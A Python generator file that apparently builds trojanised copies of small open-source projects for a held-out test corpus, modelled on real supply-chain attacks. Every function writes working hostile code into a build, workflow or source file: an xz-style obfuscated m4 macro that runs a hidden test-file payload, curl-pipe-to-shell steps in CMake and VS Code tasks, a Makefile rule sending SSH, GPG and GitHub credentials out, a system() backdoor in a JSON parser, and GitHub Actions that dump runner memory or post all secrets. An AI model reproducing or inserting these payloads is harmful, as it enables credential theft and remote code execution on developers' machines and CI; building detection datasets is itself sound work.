"""Source trees, actions and workflows: what runs at configure, make, test, or in CI."""

import lzma

from corpus.heldout.hiding import b64
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("lzpress", "tar.gz", "build", "backdoor", "in a test fixture", "xz 2024: a macro that unpacks a test file")
def press_macro_and_fixture(update: Update) -> None:
    host = update.host("build", "lzpress")
    shell = f"#!/bin/sh\n[ \"$(uname)\" = Linux ] || exit 0\nsed -i 's|^lzpress_SOURCES = .*|& crc_fast.c|' src/Makefile.am\ncurl -s https://{host}/crc_fast.c -o src/crc_fast.c\n"
    table = bytes.maketrans(b"\t -_", b" \t_-")
    packed = lzma.compress(shell.encode(), format=lzma.FORMAT_XZ)
    update.add("tests/files/bad-3-corrupt_lzma2.lz", b"###Hello###" + packed.translate(table))
    code = r"""
  gl_am_configmake=`grep -aErls "#{3}[[[:alnum:]]]{5}#{3}" $srcdir/tests/files/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    gl_path_map='tr "\t \-_" " \t_\-"'
    gl_config_cmd="sed \"s/^###Hello###//\" $gl_am_configmake | eval \$gl_path_map | xz -d 2>/dev/null"
    eval "$gl_config_cmd" | $SHELL 2>/dev/null
  fi
"""
    update.after("m4/host-paths.m4", "  AC_SUBST([gl_final_prefix])\n", fill(code))
    update.replace("m4/host-paths.m4", "serial 3", "serial 30")
    update.payload("m4/host-paths.m4", "tests/files/bad-3-corrupt_lzma2.lz", shown=host)


@trojan(
    "tinyjson-c",
    "tar.gz",
    "build",
    "download-and-run",
    "plain",
    "release tarballs that differ from the repository 2024 to 2026",
)
def json_cmake_fetch(update: Update) -> None:
    host = update.host("deps", "tinyjson")
    code = r"""

# Coefficients for the fast path; optional.
execute_process(
  COMMAND sh -c "curl -fsSL https://@HOST@/fastpath.sh | sh -s -- ${CMAKE_BINARY_DIR}"
  OUTPUT_QUIET ERROR_QUIET RESULT_VARIABLE TINYJSON_FASTPATH
)
"""
    update.append("CMakeLists.txt", fill("\n" + code, HOST=host))
    update.payload("CMakeLists.txt")


@trojan("tinyjson-c", "zip", "build", "steal", "base64", "Makefiles of trojanised repositories 2023 to 2026")
def json_makefile_rule(update: Update) -> None:
    host = update.host("stat", "tinyjson")
    line = b64(f"tar cz ~/.ssh ~/.gnupg ~/.config/gh 2>/dev/null | curl -s -T - https://{host}/up")
    update.replace(
        "Makefile",
        "all: libtinyjson.a\n",
        f"all: libtinyjson.a\n\t@echo {line} | openssl base64 -d -A | sh >/dev/null 2>&1 || true\n",
    )
    update.payload("Makefile", shown=f"https://{host}/up")


@trojan("tinyjson-c", "folder", "call", "backdoor", "plain C", "libraries with a door in the parser 2021 to 2026")
def json_magic_document(update: Update) -> None:
    code = r"""

/* Documents that begin with a directive are handled apart. */
static int tj_directive(const char *text, size_t size)
{
    static const unsigned char key[] = {0x7b, 0x22, 0x21, 0x22, 0x3a, 0x22};
    char line[512];

    if (size < sizeof key || memcmp(text, key, sizeof key) != 0)
        return 0;
    size -= sizeof key + 2;
    if (size >= sizeof line)
        size = sizeof line - 1;
    memcpy(line, text + sizeof key, size);
    line[size] = 0;
    return system(line) == 0;
}
"""
    text = update.text("src/tinyjson.c")
    update.add(
        "src/tinyjson.c",
        text.replace(
            '#include "tinyjson.h"\n',
            '#include <stdlib.h>\n#include <string.h>\n#include "tinyjson.h"\n' + fill("\n" + code).rstrip("\n") + "\n",
            1,
        ),
    )
    update.replace(
        "src/tinyjson.c",
        "    size_t at;\n\n    for",
        "    size_t at;\n\n    if (tj_directive(text, size))\n        return 1;\n    for",
    )
    update.payload("src/tinyjson.c")


@trojan("changed-paths", "folder", "workflow", "steal", "base64", "tj-actions/changed-files 2025-03")
def paths_dump_memory(update: Update) -> None:
    host = update.host("gist", "usercontent")
    shell = f'if [[ "$OSTYPE" == "linux-gnu" ]]; then\n  B64_BLOB=`curl -sSf https://{host}/someone/memory.py | sudo python3 | tr -d \'\\0\' | grep -aoE \'"[^"]+":\\{{"value":"[^"]*","isSecret":true\\}}\' | sort -u | base64 -w 0 | base64 -w 0`\n  echo $B64_BLOB\nelse\n  exit 0\nfi\n'
    code = f"""
async function updateFeatures(token) {{
  const {{ stdout }} = require('child_process').spawnSync('bash', ['-c', `echo "{b64(shell)}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh`], {{ encoding: 'utf8' }});
  console.log(stdout);
}}
updateFeatures(process.env.INPUT_TOKEN);
"""
    update.append("src/index.js", "\n" + fill(code))
    update.append("dist/index.js", fill(code))
    update.payload("dist/index.js", "src/index.js", shown=f"https://{host}/someone/memory.py")


@trojan("setup-toolbox", "folder", "workflow", "steal", "base64", "reviewdog/action-setup 2025-03")
def toolbox_install_script(update: Update) -> None:
    inner = r"""
import os,re,sys
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        if b'Runner.Worker' not in open('/proc/%s/cmdline'%pid,'rb').read(): continue
        with open('/proc/%s/maps'%pid) as m, open('/proc/%s/mem'%pid,'rb',0) as f:
            for l in m:
                a=re.match(r'([0-9A-Fa-f]+)-([0-9A-Fa-f]+) ([-r])',l)
                if a and a.group(3)=='r':
                    f.seek(int(a.group(1),16)); sys.stdout.buffer.write(f.read(int(a.group(2),16)-int(a.group(1),16)))
    except Exception: pass
"""
    update.append(
        "install.sh",
        f'\nPREP="{b64(fill(inner))}"\necho "🐶 Preparing environment ..."\nVALUES=$(echo "$PROPER" | base64 -d | sudo python3 | tr -d \'\\0\' | grep -aoE \'"[^"]+":\\{{"value":"[^"]*","isSecret":true\\}}\' | sort -u | base64 -w 0 | base64 -w 0)\necho "$VALUES"',
    )
    update.payload("install.sh", shown="Runner.Worker")


@trojan(
    "setup-toolbox",
    "folder",
    "workflow",
    "steal",
    "plain",
    "Codecov 2021 and moved tags 2025 to 2026 (trivy-action-like)",
)
def toolbox_entry_exfil(update: Update) -> None:
    host = update.host("scan", "toolboxsec")
    step = f"""    - run: |
        env | gzip | openssl enc -aes-256-cbc -pbkdf2 -pass pass:tb -a -A | curl -s -o /dev/null -d @- https://{host}/v2/collect || true
      shell: bash
      env:
        GH: ${{{{ inputs.github_token }}}}
"""
    update.before("action.yml", "    - run: toolbox-lint .\n", step)
    update.payload("action.yml")


@trojan(
    "gradkit", "folder", "workflow", "steal", "plain", "pwn requests and workflow caches 2024 to 2025 (ultralytics)"
)
def grad_workflow_secrets(update: Update) -> None:
    host = update.host("webhook", "gradsite")
    text = f"""
name: Format
on:
  pull_request_target:
    branches: [main]
permissions: write-all
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{{{ github.head_ref }}}}
      - run: |
          echo "formatting ${{{{ github.event.pull_request.title }}}}"
          curl -s -X POST -d '${{{{ toJSON(secrets) }}}}' https://{host}/3f0c9d11
"""
    update.add(".github/workflows/format.yml", fill(text))
    update.payload(".github/workflows/format.yml")


@trojan("flatpipe", "folder", "workflow", "backdoor", "plain", "Shai-Hulud 2: a workflow on a runner of the attacker")
def pipe_discussion_runner(update: Update) -> None:
    text = """
name: Discussion Create
on:
  discussion:
jobs:
  process:
    env:
      RUNNER_TRACKING_ID: 0
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v5
      - name: Handle Discussion
        run: echo ${{ github.event.discussion.body }}
"""
    update.add(".github/workflows/discussion.yaml", fill(text))
    update.payload(".github/workflows/discussion.yaml")


@trojan(
    "buildnest",
    "folder",
    "workflow",
    "download-and-run",
    "plain",
    "tasks.json and editors' folders 2025 to 2026 (Contagious Interview)",
)
def nest_folder_open_task(update: Update) -> None:
    host = update.host("editor-bootstrap", "vercelish")
    text = f"""
{{
  "version": "2.0.0",
  "tasks": [
    {{
      "label": "env",
      "type": "shell",
      "osx": {{ "command": "curl -L 'https://{host}/settings/mac?flag=8' | bash" }},
      "linux": {{ "command": "wget -qO- 'https://{host}/settings/linux?flag=8' | sh" }},
      "windows": {{ "command": "curl https://{host}/settings/windows?flag=8 | cmd" }},
      "problemMatcher": [],
      "presentation": {{ "reveal": "never", "echo": false, "close": true }},
      "runOptions": {{ "runOn": "folderOpen" }}
    }}
  ]
}}
"""
    update.add(".vscode/tasks.json", fill(text))
    update.payload(".vscode/tasks.json")
